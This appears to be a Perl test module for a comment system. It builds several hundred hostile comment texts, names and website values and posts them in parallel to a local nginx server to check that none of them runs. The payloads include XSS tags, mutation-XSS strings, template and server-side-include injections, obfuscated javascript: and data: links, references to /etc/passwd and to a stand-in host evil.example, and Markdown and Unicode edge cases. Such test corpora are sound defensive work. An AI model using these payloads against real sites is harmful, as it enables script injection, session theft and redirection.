package Hostile;

# Comments that try to be more than text: several hundred of them, for every
# place that shows comments.
#
#   texts()      texts, each at most 10,000 characters, none that is refused
#   names()      names that are accepted
#   websites()   websites; most of them are refused
#   post_many($nginx, $cookie, @comments)
#                posts these fields, many at a time; returns answers in their
#                order, as {status, comment}
#
# Whatever of it is run sets window.pwned or asks for something of evil.example.
# t/browser/hostile.mjs shows first, on a page without any defence, that it
# would notice.

use strict;
use warnings;
use utf8;

use Exporter qw(import);
use IO::Select;
use IO::Socket::INET;
use JSON::PP ();
use Social::Api qw(ask);

our @EXPORT_OK = qw(texts names websites post_many);

my $AT_ONCE = 40;

my $CODE = 'window.pwned=1';
my $EVIL = '//evil.example';


# elements, as they are and in what breaks out of attributes, text and scripts

my @tags = (
    "<script>$CODE</script>",
    "<script src=$EVIL/x.js></script>",
    "<ScRiPt/x>$CODE</sCrIpT >",
    "<img src=$EVIL/x.png onerror=$CODE>",
    "<img src=x onerror=$CODE>",
    "<image src=x onerror=$CODE>",
    "<img/src=x/onerror=$CODE>",
    "<img\tsrc=x\tonerror\t=\t$CODE>",
    "<img src=`x`onerror=$CODE>",
    "<svg onload=$CODE>",
    "<svg><script>$CODE</script></svg>",
    "<svg><animate onbegin=$CODE attributeName=x dur=1s>",
    "<svg><set href=#x attributeName=href to=javascript:$CODE>",
    "<svg><use href=data:image/svg+xml,x#x></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>parent.$CODE</script>\">",
    "<math><mtext></p><img src=x onerror=$CODE></mtext></math>",
    "<math href=javascript:$CODE>click</math>",
    "<iframe srcdoc='<script>parent.$CODE</script>'></iframe>",
    "<iframe src=javascript:parent.$CODE></iframe>",
    "<iframe src=$EVIL/></iframe>",
    "<object data=javascript:$CODE></object>",
    "<object data=$EVIL/x></object>",
    "<embed src=$EVIL/x>",
    "<video src=x onerror=$CODE></video>",
    "<video><source onerror=$CODE></video>",
    "<audio src=$EVIL/x.mp3 autoplay onplay=$CODE>",
    "<details open ontoggle=$CODE>x</details>",
    "<input autofocus onfocus=$CODE>",
    "<select autofocus onfocus=$CODE>",
    "<textarea autofocus onfocus=$CODE>",
    "<button popovertarget=p onclick=$CODE>x</button><p popover id=p>",
    "<marquee onstart=$CODE>x</marquee>",
    "<body onload=$CODE>",
    "<body background=$EVIL/x.png>",
    "<base href=$EVIL/>",
    "<link rel=stylesheet href=$EVIL/x.css>",
    "<link rel=prefetch href=$EVIL/x>",
    "<meta http-equiv=refresh content='0;url=$EVIL/'>",
    "<meta http-equiv=refresh content='0;url=javascript:$CODE'>",
    "<style>*{background:url($EVIL/x.png)}</style>",
    "<style>\@import '$EVIL/x.css';</style>",
    "<p style='background:url($EVIL/x.png);position:fixed;inset:0'>x</p>",
    "<form action=$EVIL/><button>x</button></form>",
    "<form><input formaction=javascript:$CODE type=submit></form>",
    "<form id=test><input name=parentNode><input name=action></form>",
    "<a id=pwned><a id=pwned name=x href=$EVIL/>x</a>",
    "<div id=comment-c1 class=sc-n>x</div>",
    "<section data-social=/posts/tame/></section>",
    "<template><script>$CODE</script></template>",
    "<template shadowrootmode=open><script>$CODE</script></template>",
    "<portal src=$EVIL/ onload=$CODE>",
    "<isindex type=image src=x onerror=$CODE>",
    "<x contenteditable onblur=$CODE>x</x>",
    "<x onclick=$CODE>click</x>",
    "<custom-element is=x onload=$CODE>",
    "<?xml-stylesheet href='javascript:$CODE'?>",
    "<?php $CODE ?>",
    "<%= $CODE %>",
    "<!--><script>$CODE</script>-->",
    "<!--[if true]><script>$CODE</script><![endif]-->",
    "<![CDATA[<script>$CODE</script>]]>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM '$EVIL/'>]><x>&e;</x>",
    "<<script>$CODE//<</script>",
    "<script\0>$CODE</script>" =~ s/\0//r,
    "\x{ff1c}script\x{ff1e}$CODE\x{ff1c}/script\x{ff1e}",
    "+ADw-script+AD4-$CODE+ADw-/script+AD4-",
    "%3Cscript%3E$CODE%3C/script%3E",
    "&lt;script&gt;$CODE&lt;/script&gt;",
    "&#60;script&#62;$CODE&#60;/script&#62;",
    "&#x3c;img src=x onerror=$CODE&#x3e;",
    "&#0000060img src=x onerror=$CODE&#0000062",
    "&amp;lt;script&amp;gt;$CODE&amp;lt;/script&amp;gt;",
    "&LT;img src=x onerror=$CODE&GT;",
    "&lt img src=x onerror=$CODE&gt",
    "\\<script\\>$CODE\\</script\\>",
    "\\\\<script>$CODE</script>",
);

# put before a tag: what it might be inside of

my @before = ('"', "'", '`', '">', "'>", '-->', ']]>', '</p>', '</textarea>',
    '</title>', '</style>', '</script>', '</noscript>', '</template>',
    '</xmp>', '</iframe>', '</blockquote></li></ol></section></article>',
    '</code></pre>', '</form></details>', '</svg>', '*/', "\n\n", '<!--',
    '<textarea>', '<title>', '<noscript>', '<style>', '<xmp>', '<plaintext>',
    '<p title="', "<p title='", '<a href="', '<svg><style>', '<math><style>');

# classics of what becomes a script when HTML is written out and read again

my @mutation = (
    "<noscript><p title=\"</noscript><img src=x onerror=$CODE>\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=$CODE>\">",
    "<math><mtext><table><mglyph><style><!--</style>"
        . "<img title=\"--&gt;&lt;img src=x onerror=$CODE&gt;\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
        . "<path id=\"</style><img src=x onerror=$CODE>\">",
    "<table><caption><a><math><mi><mglyph><style><img title=\"</style>"
        . "<img src=x onerror=$CODE>\">",
    "<svg><title><![CDATA[</title><img src=x onerror=$CODE>]]></svg>",
    "<listing>&lt;img src=x onerror=$CODE&gt;</listing>",
    "<pre>\n\n<img src=x onerror=$CODE></pre>",
    "<xmp><p title=\"</xmp><img src=x onerror=$CODE>\">",
    "<img alt=\"``onerror=$CODE\">",
    "<svg><p><style><!--</style><img src=x onerror=$CODE>--></style>",
    "<select><template><img src=x onerror=$CODE></template></select>",
    "<p><svg><desc><table><p><img src=x onerror=$CODE>",
    "<b><i></b><img src=x onerror=$CODE></i>",
    "<a><a><table><a href=javascript:$CODE>x</a></table>",
);

# template languages, of the page, of servers, of us

my @templates = (
    "{{constructor.constructor('$CODE')()}}",
    "{{[].constructor.constructor('$CODE')()}}",
    "{{\$on.constructor('$CODE')()}}",
    "{{\$eval.constructor('$CODE')()}}",
    "{{_c.constructor('$CODE')()}}",
    "{{{html}}}", '{{>form}}', '{{token}}', '{{#t}}x{{/t}}', '{{! x }}',
    '{{=<% %>=}}<%token%>', '{{&text}}', '{{.}}', '{{/comments}}', '{{^x}}',
    "[[constructor.constructor('$CODE')()]]", '[[${7*7}]]',
    "<p x-data x-init=$CODE>", "<p v-html=\"$CODE\" \@click=$CODE :x=$CODE>",
    "<p ng-init=\"constructor.constructor('$CODE')()\" ng-app>",
    "<p x-on:load=$CODE hx-get=$EVIL/ hx-trigger=load>",
    "<p hx-on:htmx:load=$CODE data-hx-get=$EVIL/>",
    "<turbo-stream action=replace target=x><template>x</template>"
        . '</turbo-stream>',
    "<p data-controller=x data-action=$CODE>",
    '${7*7}', '#{7*7}', '@{7*7}', '%{7*7}', '<%= 7*7 %>', '<?= 7*7 ?>',
    '{% include "/etc/passwd" %}', '{%raw%}{{x}}{%endraw%}', '{$x|escape:off}',
    '<!--# include virtual="/social" -->', "<!--#exec cmd='id'-->",
    '<!--#echo var=DATE_LOCAL encoding=none -->', '<esi:include src=/social/>',
    '<!--esi x-->', '<jsp:include page="/x"/>', '<cfset x=1>', '<!-- social -->',
    '$request_uri', '\\x3cscript\\x3e', '\\u003cscript\\u003e', '%s%n%x',
);


# links: a target in all forms that Markdown has

my @targets = (
    "javascript:$CODE", "JaVaScRiPt:$CODE", "  javascript:$CODE",
    "javascript&colon;$CODE", "javascript&#58;$CODE", "javascript&#x3A;$CODE",
    "java&Tab;script:$CODE", "java&NewLine;script:$CODE",
    "java&#9;script:$CODE", "java&#10;script:$CODE", "java&#0;script:$CODE",
    "&#1;javascript:$CODE", "&#x20;javascript:$CODE", "&#14;javascript:$CODE",
    "&#106;avascript:$CODE", "&#x6A&#x61vascript:$CODE",
    "&#0000106;avascript:$CODE", "javascript\\:$CODE", "\\javascript:$CODE",
    "javascript%3a$CODE", "%6aavascript:$CODE", "javas\\\tcript:$CODE",
    "j\x{200b}avascript:$CODE", "\x{200b}javascript:$CODE",
    "\x{202e}javascript:$CODE", "\x{feff}javascript:$CODE",
    "\x{a0}javascript:$CODE", "javascript\x{ff1a}$CODE",
    "\x{458}avascript:$CODE", "javascript:/*--></script>*/$CODE",
    "javascript://x/%0a$CODE", "javascript:\\u0077indow.pwned=1",
    "data:text/html,<script>opener.$CODE</script>",
    'data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQ9MTwvc2NyaXB0Pg==',
    "data:image/svg+xml,<svg onload=$CODE>", "DATA:text/html,x",
    "data&colon;text/html,x", "vbscript:msgbox(1)", "VBS&#99;ript:x",
    "livescript:$CODE", "mocha:$CODE", "feed:javascript:$CODE",
    "view-source:javascript:$CODE", "blob:https://blog.example/x",
    'filesystem:https://blog.example/x', 'file:///etc/passwd',
    'about:blank', 'chrome://settings', 'intent://x#Intent;scheme=http;end',
    'ms-msdt:/x', 'tel:+1', 'ftp://evil.example/', 'ws://evil.example/',
    "$EVIL/", "\\\\evil.example/", "/\\evil.example/", "///evil.example/",
    'https:evil.example', 'https:/evil.example', 'https:\\\\evil.example',
    '/posts/tame/', '../x', '#comment-c1', '?x', '',
    'https://e.org/"onmouseover="window.pwned=1',
    "https://e.org/'onmouseover='window.pwned=1",
    'https://e.org/`onmouseover=window.pwned=1',
    'https://e.org/&quot;onmouseover=window.pwned=1&quot;',
    'https://e.org/&#34;onmouseover=window.pwned=1&#34;',
    'https://e.org/><script>window.pwned=1</script>',
    "https://e.org/&#10;onmouseover=$CODE",
    'https://e.org/\\"onmouseover=window.pwned=1',
    'https://user:pass@e.org/', 'https://e.org@evil.example/',
    'https://evil.example\\@e.org/', 'https://e.org:99999/', 'https://[::1]/',
    'https://xn--80ak6aa92e.com/', "https://\x{430}pple.com/",
    "https://e.org/\x{202e}gpj.exe", "https://e.org/\x{2028}x",
    'https://e.org/{{x}}', 'https://e.org/<!--#echo var=x -->',
    'mailto:a@b.c?subject=x%0aBcc:d@e.f', 'mailto:"><script>@b.c',
    'https://javascript:window.pwned=1/', 'https://e.org/' . '%' x 500,
    'https://e.org/' . 'a' x 1980, 'https://' . 'a.' x 900 . 'org/',
    'https://e.org/' . '(' x 30 . ')' x 30,
);

my @forms = (
    sub { "[x]($_[0])" }, sub { "[x](<$_[0]>)" }, sub { "<$_[0]>" },
    sub { $_[0] }, sub { "![x]($_[0])" },
    sub { "[x]($_[0] \"t\" onmouseover=$CODE)" },
    sub { "[x][r]\n\n[r]: $_[0] 'x\" onmouseover=\"$CODE'" },
    sub { "[x<img src=y onerror=$CODE>]($_[0])" },
);


# Markdown that nests, or does not end

my @structure = (
    '> ' x 1000, "> " x 40 . 'deep', "- " x 40 . 'deep', '- > ' x 200 . 'x',
    join("\n", map { ' ' x (2 * $_) . '- x' } 0 .. 60),
    join("\n", map { '1' x ($_ % 12) . '. x' } 1 .. 40), '999999999. x',
    '-1. x', "1) <script>$CODE</script>", '*' x 1000, '_a' x 1000,
    '**_' x 1000 . 'x' . '_**' x 1000, '**x', '__x', '*x**y***z',
    '[' x 3000, '[x](' x 2000, '![' x 2000, ']' x 3000, '[x]' x 2000,
    '[[x]](y)[[', '[x](<', '[x](y "', '<https://x', '[a]: ', '`' x 3000,
    '`<script>' . $CODE, "``` `\n<script>$CODE</script>",
    "```\n<script>$CODE</script>\n", "~~~html\n</code></pre><img src=x onerror="
        . "$CODE>\n~~~", "```\"><script>$CODE</script>\nx\n```",
    "```js onload=$CODE\n$CODE\n```", "    <script>$CODE</script>",
    "\t</pre><script>$CODE</script>", '`</code><script>' . $CODE . '</script>`',
    "> ```\n> </blockquote>\nx", "- ```\n</li></ul>\n```", '***', '---',
    "x\n===", "x\n---", "# <img src=x onerror=$CODE>", '# ', '| a | b |',
    "| a |\n| - |\n| <script>$CODE</script> |", '~~x~~', '- [ ] x', '[^1]',
    ":smile: \@ann #tag --- ... (c) \"x\" 'y'", "\\\n" x 200 . 'x',
    "x\\", "&" x 1000, '&#' x 1000, '&#x110000;&#xd800;&#0;&#-1;&#x;',
    '&NotEqualTilde;&ngE;&fjlig;', '<' x 3000, '>' x 3000, '<a ' x 1000,
    '<!' x 1000, '<!-' x 1000, '<a href="' x 500, '"' x 3000, "'" x 3000,
    "x\n" x 300, "\n" x 200 . 'x', ' ' x 2000 . 'x', "\t" x 1000 . 'x',
    "x" . ' ' x 2000, "\\" x 3000, '$$' x 500, '^' x 1000,
);


# characters

my @characters = (
    "\x{202e}txt.exe\x{202d}", "\x{2066}\x{2067}\x{2068}never ended",
    "\x{202a}\x{202b}" x 200 . 'x', "\x{200e}\x{200f}\x{61c}x",
    "a\x{200b}\x{200c}\x{200d}\x{2060}\x{feff}b", "\x{ad}" x 1000 . 'x',
    "\x{2028}\x{2029}\x{85}x", "\x{fff9}a\x{fffa}b\x{fffb}", "\x{fffd}x",
    "\x{fffe}x", "\x{ffff}x", "\x{10ffff}x", "\x{e000}x", "\x{e0001}\x{e0041}x",
    "Z" . "\x{300}" x 400, join('', map { "x\x{489}" } 1 .. 100),
    "\x{fdfd}" x 50, "\x{12031}" x 50, "\x{1f468}\x{200d}" x 50,
    "\x{1f1e6}" x 50, "\x{1f600}" x 300, "\x{0645}" x 500, "\x{644}\x{627}",
    "\x{3000}x", "\x{115f}\x{3164}x", "\x{2800}x", "\x{1}\x{2}\x{7}\x{8}x",
    "\x{b}\x{c}\x{1b}[31mx", "\x{7f}\x{80}\x{9b}x", 'w' x 10_000,
    "\x{e9}" x 10_000, 'https://e.org/' . "\x{e9}" x 300,
);


sub texts {
    my @texts = (@tags, @mutation, @templates, @structure, @characters);

    # each tag behind one of the openings

    push @texts, map { "$before[$_ * 5 % @before]$tags[$_]" } 0 .. $#tags;

    # each target in one of the forms, some in all

    for my $i (0 .. $#targets) {
        my @some = $i % 20 ? $forms[$i % @forms] : @forms;
        push @texts, map { $_->($targets[$i]) } @some;
    }

    # within Markdown's own elements

    push @texts, map { ("**$_**", "> $_", "- $_", "`$_`", "    $_") }
        @tags[0 .. 4], @templates[0 .. 1];

    my %seen;

    return grep { length && length() <= 10_000 && !$seen{$_}++ } @texts;
}


sub names {
    return (
        '<b>Ann</b>', "<img src=x onerror=$CODE>", '"><svg onload=' . $CODE,
        "' onmouseover='$CODE", '" autofocus onfocus="' . $CODE,
        '` onmouseover=' . $CODE, '</b></p></li></ol>', '</title><script>',
        '</label></textarea>', '<!--', '-->', ']]>', '{{token}}',
        "{{constructor.constructor('$CODE')()}}", '{{>form}}', '${7*7}',
        '<!--#echo var=DATE_LOCAL -->', '&lt;b&gt;', '&#x3c;b&#x3e;', '&nosemi',
        "javascript:$CODE", '[x](javascript:x)', '**x**', '`x`', 'parentNode',
        '__proto__', 'constructor', 'null', '%00%0a', '\\', '\\x3c',
        "\x{5d0}\x{5d1}\x{5d2}", "\x{645}\x{631}\x{62d}", "Z" . "\x{300}" x 59,
        "\x{1f600}" x 60, 'w' x 60, "a\x{200b}b", "\x{fdfd}" x 60,
    );
}


sub websites {
    return (@targets, map { "https://e.org/?$_" } @tags[0 .. 5], @before);
}


sub begin {
    my ($nginx, $cookie, $fields) = @_;

    my $socket = IO::Socket::INET->new(PeerAddr => '127.0.0.1',
        PeerPort => $nginx->port) or die "connect: $!";

    print {$socket} ask(POST => '/_social/comments', {
        'Sec-Fetch-Site' => 'same-origin', Connection => 'close',
        'Content-Type' => 'application/json', Cookie => $cookie },
        JSON::PP->new->utf8->encode($fields));
    $socket->flush;

    return $socket;
}


sub post_many {
    my ($nginx, $cookie, @comments) = @_;

    my $select = IO::Select->new;
    my (%number, @text, $next);

    $next = 0;

    while ($next < @comments || $select->count) {

        while ($next < @comments && $select->count < $AT_ONCE) {
            my $socket = begin($nginx, $cookie, $comments[$next]);

            $number{$socket} = $next++;
            $select->add($socket);
        }

        for my $socket ($select->can_read) {
            my $n = $number{$socket};

            if (!sysread $socket, $text[$n], 65536, length($text[$n] //= '')) {
                $select->remove($socket);
                close $socket;
            }
        }
    }

    return map {
        my ($status) = m{\AHTTP/1\.1 (\d+) };
        my ($json) = /(\{.*\})/s;
        my $doc = eval { JSON::PP->new->utf8->decode($json // '') };

        { status => $status // 0, comment => ($doc // {})->{comment} }
    } @text;
}


1;
